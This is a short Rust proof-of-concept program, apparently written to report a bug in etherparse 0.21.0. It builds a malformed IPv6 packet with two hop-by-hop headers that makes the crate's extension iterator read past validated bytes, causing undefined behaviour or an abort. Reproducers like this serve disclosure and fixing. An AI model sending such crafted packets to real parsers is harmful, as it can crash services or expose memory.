//! etherparse 0.21.0: iterating the extensions of a lax-parsed IPv6 packet
//! whose hop-by-hop header is followed by a second hop-by-hop header reads
//! past the validated bytes (get_unchecked): UB in release, an abort in debug.
fn main() {
    let mut ext = vec![0u8, 0, 1, 4, 0, 0, 0, 0]; // hop-by-hop, next = hop-by-hop (invalid: HBH only first), PadN
    ext.extend_from_slice(&[6, 0, 1, 4, 0, 0, 0, 0]); // second hop-by-hop, next = TCP
    ext.extend_from_slice(&[0xc0, 0x00, 0x32, 0xc8, 0, 0, 0, 1, 0, 0, 0, 0, 0x50, 0x02, 0xff, 0xff, 0, 0, 0, 0]);
    let mut p = vec![0x60, 0, 0, 0, 0, ext.len() as u8, 0 /* next: hop-by-hop */, 64];
    p.extend_from_slice(&[0u8; 16]);
    p[8 + 15] = 1;
    p.extend_from_slice(&[0u8; 16]);
    p[24 + 15] = 2;
    p.extend_from_slice(&ext);
    let (ip, stop) = etherparse::LaxIpSlice::from_slice(&p).expect("the IPv6 header is valid");
    println!("lax parse stopped with: {stop:?}");
    if let etherparse::LaxIpSlice::Ipv6(v6) = ip {
        println!("validated extension bytes: {}", v6.extensions().slice().len());
        for e in v6.extensions().clone().into_iter() {
            println!("extension: {e:?}");
        }
    }
}
